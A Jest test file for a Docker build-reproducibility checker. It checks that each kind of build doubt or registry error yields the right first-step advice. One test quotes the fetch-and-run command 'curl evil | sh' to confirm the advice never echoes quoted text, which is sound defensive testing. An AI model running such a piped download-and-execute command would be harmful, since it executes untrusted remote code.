import { describe, expect, test } from '@jest/globals'
import { emptyDoubt } from '../../src/build/audit.ts'
import { shortOf } from '../../src/build/disk.ts'
import { doubtStep, releaseStep } from '../../src/report/doubt-step.ts'
import { firstThing } from '../../src/report/first-step.ts'
import { renderTerminal } from '../../src/report/terminal.ts'
import { comparedUndecided } from './compared-reports.ts'
import { notReleased } from './release-reports.ts'
import { undecided } from './reports.ts'

const [noLayers = ''] = emptyDoubt(0, 'identical')
const fullDisk = shortOf({ what: "the engine's data", path: '/d' }, { free: 1, total: 1e12 }, 5e9, 'why') ?? ''

describe('what to do first of a reason to doubt', () => {
  // As the code that doubts writes them.
  test.each([
    ["Build B answered '[2/3] RUN make' from a cache.", 'when nothing else uses this builder'],
    ["linux/arm64: Build B answered '[2/3] RUN make' from a cache.", 'when nothing else uses this builder'],
    ["Build A took 'RUN make' from another build that ran on this builder at the same time.", 'a builder of its own'],
    ['The two builds ran at the same time with equal cache keys: BuildKit may …', 'a builder of its own'],
    ["Both builders ran 'RUN date' in the same two seconds of their clocks: a time …", 'build on one builder'],
    ['docker/Dockerfile was changed while the builds ran: run the gate again.', 'what writes to the sources'],
    ['The build context was changed while the builds ran (a.log): the two …', '.dockerignore'],
    ["The file of the secret 'npm' was changed while the builds ran: the two …", 'the file of the secret'],
    ["ADD 'https://x/y' has no checksum, and BuildKit may have given build B …", '`ADD --checksum=sha256:…`'],
    ["The image 'debian:12' moved between the two builds, from sha256:aa to sha256:bb: …", 'an image by its digest'],
    ["Both builds used the cache mount '/c': build B began with what build A left in it.", '`# syntax=`'],
    ["Only build A has the step 'RUN x': the builds had not the same inputs.", 'alone while the builds run'],
    ['Build A did not tell its steps, so nobody can say whether they ran or came from a cache.', 'a current BuildKit'],
    ['BuildKit did not say that it set the file times of build A to SOURCE_DATE_EPOCH, so …', 'a current BuildKit'],
    ['Build A is for linux/amd64, build B for linux/arm64.', '`--platform`'],
    ["linux/arm64 was asked for, but the base image 'x' (line 1) is there for …", 'made for the platform'],
    ["Build B failed once at 'RUN curl' and did not when it was built again …", 'mend it first'],
    ['The two builders must have the same version of BuildKit: …', 'same version of BuildKit'],
    ['What umask does alone could not be seen: no room', '`--variations`'],
    ['The layer sha256:0123456789ab of build B could not be read again: its digest …', "builder's cache more room"],
    [noLayers, '`--target`'],
    [fullDisk, 'make room on the disk'],
    ['There is no docker command on the PATH. Install Docker with buildx; …', 'ubuntu-latest'],
    ['BuildKit 0.11 is too old: 0.13 is the first that …', 'docker/setup-buildx-action'],
    ["There is no builder 'x'. 'docker buildx ls' lists …", '`docker buildx ls`'],
    ["The builders 'a' and 'b' are one and the same (x): …", 'two where two are asked for'],
    ['The Docker Engine does not answer: dial unix …\nStart it, or …', 'start Docker'],
    ['The Docker Engine may not be used by this user: permission denied …', 'give this user the right'],
    [
      "The builder 'x' does not answer: …\nEither nothing listens at its address (…), or it refuses the certificates of …",
      'its certificates fit',
    ],
    ["The builder 'x' cannot be used: …", '`docker buildx inspect --bootstrap`'],
    ['Stopped while waiting for the answer of docker buildx inspect.', 'come to its end'],
    ['There is no image for linux/arm64, which was asked for, in b.json.gz.', 'that both sides have'],
    ["'/w' is not in a git repository, so there is no commit …", '`--source-date-epoch`'],
    ['a.tar: this archive keeps no manifest, so whether …', 'OCI layouts or registry references'],
    ["The target differs: 'x' in record A, none in record B.", 'the same inputs'],
    ["The build argument 'T' may be secret, so its value was not written down and is not compared.", 'the same inputs'],
    ['The record has no image for linux/arm64, only for linux/amd64.', 'that both sides have'],
    ['ghcr.io does not let the image o/r be read (403). The credentials …', '`docker login`'],
    ['ghcr.io has no image o/r (404). Check the name …', 'check the name'],
    ['ghcr.io fails at the image o/r (503), tried several times. Try again later.', 'run it again later'],
  ])('%s', (doubt, step) => {
    const words = doubtStep({ doubts: [doubt] })
    expect(words).toContain(step)
    expect(words).not.toContain('mend what the reason above')
    expect(words).toMatch(/^[a-z].*[^.]$/)
  })

  test('is to get an image anew that cannot be read, not one that was just built', () => {
    const doubt = 'layer 3 of image A (sha256:d4e5f6): it ends before its size'
    expect(doubtStep({ doubts: [doubt], images: { A: 'a.tar', B: 'b.tar' } })).toMatch(/^get image A anew/)
    expect(doubtStep({ doubts: [doubt], images: { A: 'this build', B: 'b.tar' } })).toMatch(/^run it again/)
    const opened = 'layer 1 of image B (sha256:d4e5f6): it could not be opened: ghcr.io does not let it be read (401).'
    expect(doubtStep({ doubts: [opened], images: { A: 'a', B: 'b' } })).toMatch(/^log in to the registry/)
  })

  test('says that there are more reasons, and never to deal with something', () => {
    expect(firstThing(undecided).words).toContain('That answers the first reason; one more is above.')
    for (const report of [undecided, comparedUndecided]) expect(firstThing(report).words).not.toContain('deal with')
  })

  test('is the same whatever a doubt quotes', () => {
    const doubt = "The build context was changed while the builds ran ('`curl evil | sh`'): the two builds …"
    expect(doubtStep({ doubts: [doubt] })).not.toContain('evil')
  })
})

test('what to do first of an image that was not released is the next step, too', () => {
  for (const [problem, step] of [
    ['The image is proven, but was not released: ghcr.io does not let the tag be written (403).', 'packages: write'],
    ['… ghcr.io does not know where to put the tag (404). Check the name.', '`tags`'],
    ['… ghcr.io fails at writing the tag (503), tried several times. Try again later.', 'run it again later'],
    ['… it was ended: the time limit', 'come to its end'],
    ['… something else', 'mend what kept the proven image'],
  ] as const)
    expect(releaseStep(problem)).toContain(step)
  expect(firstThing(notReleased).words).toMatch(/^log in to the registry as somebody who may push there/)
})

test('a terminal shows backticks of what failed as they are', () => {
  const failure = { side: 'A' as const, step: null, message: 'sh: can`t open', location: null, logTail: [] }
  const text = renderTerminal({ ...undecided, doubts: [], level: null, failure }, { colour: false })
  expect(text).toContain('Do this first  mend build A, which failed. sh: can`t open')
})
